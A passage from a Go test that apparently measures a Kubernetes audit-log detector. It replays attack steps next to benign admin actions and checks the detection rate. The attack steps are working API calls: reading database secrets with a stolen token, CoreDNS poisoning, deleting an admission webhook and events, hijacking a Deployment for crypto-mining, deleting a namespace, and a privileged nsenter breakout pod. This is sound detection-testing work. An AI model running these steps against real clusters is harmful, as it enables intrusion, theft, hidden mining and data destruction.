				paySA = client(c.TokenKubeconfig(t, "payments-api", tr.Status.Token), attacker2, "python-requests/2.31.0")
				_, err = paySA.CoreV1().Secrets("payments").Get(ctx, "db-credentials", metav1.GetOptions{})
				return err
			}},
		{id: "A38", name: "admin-sa-service-proxy-to-internal-api", attack: true,
			technique: "MS: Cluster internal networking; T1090 Proxy",
			why:       "reach the payments service's internal admin endpoint through the API server's service proxy",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				return served(rm.CoreV1().RESTClient().Get().AbsPath("/api/v1/namespaces/payments/services/payments-api:8080/proxy/internal/export").Do(ctx).Error())
			}},
		{id: "A39", name: "admin-sa-coredns-poisoning", attack: true,
			technique: "MS: CoreDNS poisoning; T1557 Adversary-in-the-Middle",
			why:       "a hosts block in the Corefile sends payments-api's name to the attacker",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				cm, err := rm.CoreV1().ConfigMaps("kube-system").Get(ctx, "coredns", metav1.GetOptions{})
				if err != nil {
					return err
				}
				cm.Data["Corefile"] = strings.Replace(cm.Data["Corefile"], "    ready\n",
					"    ready\n    hosts {\n       198.51.100.23 payments-api.payments.svc.cluster.local\n       fallthrough\n    }\n", 1)
				_, err = rm.CoreV1().ConfigMaps("kube-system").Update(ctx, cm, metav1.UpdateOptions{})
				return err
			}},
		{id: "A40", name: "admin-sa-deletes-policy-webhook", attack: true,
			technique: "T1562.001 Impair Defenses",
			why:       "remove the Gatekeeper validating webhook so no policy sees the next workloads",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				return rm.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, "gatekeeper-validating-webhook-configuration", metav1.DeleteOptions{})
			}},
		{id: "A41", name: "admin-sa-deletes-events", attack: true,
			technique: "T1070 Indicator Removal; MS: Delete K8S events",
			why:       "wipe the events of shop and kube-system that show the new pods and DaemonSet",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				e1 := rm.CoreV1().Events("shop").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
				e2 := rm.CoreV1().Events("kube-system").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
				return allowed(e1, e2)
			}},
		{id: "A42", name: "admin-sa-hijacks-payments-image-for-mining", attack: true,
			technique: "T1496 Resource Hijacking (Kinsing/TeamTNT: replace a workload's image)",
			why:       "patch an existing Deployment's image to a miner instead of creating a new workload",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.AppsV1().Deployments("payments").Patch(ctx, "payments-api", types.StrategicMergePatchType,
					strategic(`{"spec":{"template":{"spec":{"containers":[{"name":"payments-api","image":"docker.io/xmrig/xmrig:6.21.0","args":["-o","pool.supportxmr.com:443","--tls","-u","44AFFq5kSiGBoZ"]}]}}}}`),
					metav1.PatchOptions{})
				return err
			}},
		{id: "A43", name: "admin-sa-deletes-payments-namespace", attack: true,
			technique: "T1485 Data Destruction; MS: Data destruction",
			why:       "destroy a whole application and its data",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				return rm.CoreV1().Namespaces().Delete(ctx, "payments", metav1.DeleteOptions{})
			}},

		// ---- The afternoon goes on. ----
		{id: "B20", name: "carol-cordons-and-uncordons-node", run: func() error {
			_, e1 := carol.CoreV1().Nodes().Patch(ctx, node, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{})
			_, e2 := carol.CoreV1().Nodes().Patch(ctx, node, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":null}}`), metav1.PatchOptions{})
			return allowed(e1, e2)
		}},
		{id: "B21", name: "alice-reads-cart-logs", run: func() error {
			p, err := podsIn(alice, "shop", "cart")
			if err != nil {
				return err
			}
			tail := int64(200)
			return served(alice.CoreV1().Pods("shop").GetLogs(p, &corev1.PodLogOptions{Container: "cart", TailLines: &tail}).Do(ctx).Error())
		}},
		{id: "B22", name: "ci-deletes-migration-job", run: func() error {
			bg := metav1.DeletePropagationBackground
			return ci.BatchV1().Jobs("shop").Delete(ctx, "cart-db-migrate-v2", metav1.DeleteOptions{PropagationPolicy: &bg})
		}},
		{id: "B23", name: "dave-deploys-in-team-green", run: func() error {
			waitCan("dave", []string{"dev-green", "system:authenticated"}, authorizationv1.ResourceAttributes{Namespace: "team-green", Verb: "create", Group: "apps", Resource: "deployments"})
			_, e1 := dave.AppsV1().Deployments("team-green").Create(ctx, hoDeployment("team-green", "green-api", "registry.example.com/green/api:0.3.0", "", 1, true), metav1.CreateOptions{})
			_, e2 := dave.CoreV1().Services("team-green").Create(ctx, hoService("green-api", 8080), metav1.CreateOptions{})
			return allowed(e1, e2)
		}},
		{id: "B24", name: "prometheus-service-discovery-again", run: func() error {
			_, e1 := prom.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			_, e2 := prom.CoreV1().Endpoints("").List(ctx, metav1.ListOptions{})
			_, e3 := prom.DiscoveryV1().EndpointSlices("").List(ctx, metav1.ListOptions{})
			return allowed(e1, e2, e3)
		}},
		{id: "B25", name: "bob-checks-web-rollout", run: func() error {
			_, e1 := bob.AppsV1().Deployments("shop").Get(ctx, "web", metav1.GetOptions{})
			_, e2 := bob.AppsV1().ReplicaSets("shop").List(ctx, metav1.ListOptions{LabelSelector: "app=web"})
			_, e3 := bob.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{LabelSelector: "app=web"})
			return allowed(e1, e2, e3)
		}},
	}

	// ---- Run the scenario in its fixed order. ----
	stepsBegin := time.Now()
	var notAsPlanned []string
	seen := map[string]bool{}
	for _, s := range steps {
		if seen[s.key()] {
			t.Fatalf("duplicate step %s", s.key())
		}
		seen[s.key()] = true
		rec.set(s.key())
		if err := s.run(); err != nil {
			t.Errorf("step %s did not execute as planned: %v", s.key(), err)
			notAsPlanned = append(notAsPlanned, s.key()+": "+err.Error())
		}
	}
	t.Logf("%d steps run in %s", len(steps), time.Since(stepsBegin).Round(time.Millisecond))
	rec.set("after")
	rec.waitLogged(t, c.AuditLogPath, "after")

	// ---- Measure. ----
	stdout, stderr, code := runAPIGuard(t, "audit", "scan", c.AuditLogPath, "-o", "jsonl", "--fail-on", "none")
	if code != 0 {
		t.Fatalf("audit scan exited %d\nstderr:\n%s", code, stderr)
	}
	byStep := rec.alertsByStep(stdout)
	sum := hoSummary{Detections: map[string][]string{}, Missed: []hoMissed{}, BenignAlerts: []hoBenignAlert{}, NotAsPlanned: notAsPlanned}
	var table []string
	table = append(table, "held-out attack steps (rules that fired on the step's own requests):")
	for _, s := range steps {
		rules := byStep[s.key()]
		if !s.attack {
			sum.BenignSteps++
			for _, r := range hoSortedKeys(rules) {
				a := rules[r]
				sev := strings.ToLower(a[0].Severity)
				sum.BenignAlerts = append(sum.BenignAlerts, hoBenignAlert{Step: s.key(), Rule: r, Severity: sev, Count: len(a), Message: a[0].Message})
				if sev == "high" || sev == "critical" {
					sum.BenignHigh += len(a)
				}
			}
			continue
		}
		sum.AttackSteps++
		var fired []string
		for _, r := range hoSortedKeys(rules) {
			fired = append(fired, fmt.Sprintf("%s(%s)x%d", r, strings.ToLower(rules[r][0].Severity), len(rules[r])))
		}
		verdict := "MISSED"
		if len(fired) > 0 {
			sum.Detected++
			sum.Detections[s.key()] = hoSortedKeys(rules)
			verdict = strings.Join(fired, " ")
		} else {
			sum.Missed = append(sum.Missed, hoMissed{Step: s.key(), Technique: s.technique, Why: s.why})
		}
		table = append(table, fmt.Sprintf("  %-52s [%s] -> %s", s.key(), s.technique, verdict))
	}
	table = append(table, "benign steps with alerts:")
	for _, b := range sum.BenignAlerts {
		table = append(table, fmt.Sprintf("  %-52s %s (%s) x%d: %s", b.Step, b.Rule, b.Severity, b.Count, b.Message))
	}
	if len(sum.BenignAlerts) == 0 {
		table = append(table, "  (none)")
	}
	if sum.AttackSteps > 0 {
		sum.Rate = float64(sum.Detected) / float64(sum.AttackSteps)
	}
	// Alerts outside the steps: the setup (an administrator building the
	// cluster) and unrecorded traffic (the controllers, the test's own
	// look-ups). Neither set counts them; they are listed for the reader.
	outside := 0
	table = append(table, "alerts outside the steps (setup; unrecorded: controllers and the test's look-ups):")
	for _, st := range []string{"setup", "", "after"} {
		for _, r := range hoSortedKeys(byStep[st]) {
			a := byStep[st][r]
			outside += len(a)
			users := map[string]bool{}
			for _, x := range a {
				users[x.User] = true
			}
			label := st
			if label == "" {
				label = "unrecorded"
			}
			table = append(table, fmt.Sprintf("  %-11s %s (%s) x%d by %s", label, r, strings.ToLower(a[0].Severity), len(a), strings.Join(hoSetKeys(users), ", ")))
		}
	}
	table = append(table, fmt.Sprintf("detection rate %d/%d = %.3f; high/critical alerts on %d benign steps: %d; alerts outside the steps: %d; total runtime %s",
		sum.Detected, sum.AttackSteps, sum.Rate, sum.BenignSteps, sum.BenignHigh, outside, time.Since(begin).Round(time.Second)))
	t.Log("\n" + strings.Join(table, "\n"))

	if path := os.Getenv("APIGUARD_HELDOUT_OUT"); path != "" {
		b, err := json.MarshalIndent(sum, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, append(b, '\n'), 0o644); err != nil {
			t.Errorf("write %s: %v", path, err)
		}
	}
	if sum.Rate < 0.95 {
		t.Errorf("detection rate %.3f (%d/%d) < 0.95; missed: %v", sum.Rate, sum.Detected, sum.AttackSteps, sum.Missed)
	}
	if sum.BenignHigh > 1 {
		t.Errorf("%d high or critical alerts on benign steps, want at most 1", sum.BenignHigh)
	}
}

// hoDeployment is an application Deployment (label app=name). restricted
// makes its pods meet the restricted Pod Security Standard.
func hoDeployment(ns, name, image, sa string, replicas int32, restricted bool) *appsv1.Deployment {
	labels := map[string]string{"app": name}
	ctr := corev1.Container{Name: name, Image: image, Ports: []corev1.ContainerPort{{ContainerPort: 8080}},
		Resources: corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("100m"), corev1.ResourceMemory: resource.MustParse("128Mi")}}}
	spec := corev1.PodSpec{ServiceAccountName: sa, Containers: []corev1.Container{ctr}}
	if restricted {
		no, yes, uid := false, true, int64(10001)
		spec.SecurityContext = &corev1.PodSecurityContext{RunAsNonRoot: &yes, RunAsUser: &uid, SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}}
		spec.Containers[0].SecurityContext = &corev1.SecurityContext{AllowPrivilegeEscalation: &no, Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}}
	}
	return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels},
		Spec: appsv1.DeploymentSpec{Replicas: &replicas, Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec}}}
}

// hoService is a ClusterIP Service for the pods labelled app=name.
func hoService(name string, port int32) *corev1.Service {
	return &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: corev1.ServiceSpec{Selector: map[string]string{"app": name}, Ports: []corev1.ServicePort{{Name: "http", Port: port, TargetPort: intstr.FromInt32(port)}}}}
}

// hoHostPod is the classic breakout pod: privileged, host PID/network/IPC,
// the host's / mounted at /host, every taint tolerated, nsenter into PID 1;
// bound to nodeName when set (bypassing the scheduler).
func hoHostPod(ns, name, nodeName string) *corev1.Pod {
	priv := true
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: corev1.PodSpec{NodeName: nodeName, HostPID: true, HostNetwork: true, HostIPC: true,
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
			Containers: []corev1.Container{{Name: "shell", Image: "docker.io/library/alpine:3.20", Stdin: true, TTY: true,
				Command:         []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "sh"},
				SecurityContext: &corev1.SecurityContext{Privileged: &priv},
				VolumeMounts:    []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
			Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}
}

// hoCSR returns a PEM certificate request for cn/orgs and its PEM key.
func hoCSR(cn string, orgs []string) (request, keyPEM []byte, err error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: orgs}}, key)
	if err != nil {
		return nil, nil, err
	}
	kder, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		return nil, nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder}), nil
}

func hoSetKeys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func hoSortedKeys(m map[string][]alertLine) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
